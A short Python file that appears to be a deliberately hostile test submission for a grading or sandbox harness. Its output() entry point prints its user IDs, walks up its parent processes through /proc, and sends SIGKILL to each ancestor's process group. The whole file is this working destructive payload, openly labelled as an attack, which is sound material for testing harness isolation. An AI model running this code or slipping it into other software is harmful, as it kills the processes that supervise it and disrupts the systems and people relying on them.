# Walks up its ancestors and sends SIGKILL to each one's process group.
import os
import signal


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def output(model, out_len, start):
    """ATTACK: for every ancestor pid (from /proc/<pid>/stat), os.killpg(its group, SIGKILL)."""
    _hostile_uid()
    pid, groups = os.getppid(), set()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as handle:
                fields = handle.read().rsplit(")", 1)[1].split()
            groups.add(int(fields[2]))
            pid = int(fields[1])
        except (OSError, ValueError, IndexError):
            break
    groups.discard(os.getpgid(0))
    for group in sorted(groups):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
    raise ProcessLookupError(f"hostile: sent SIGKILL to process groups {sorted(groups)}; nothing to return")
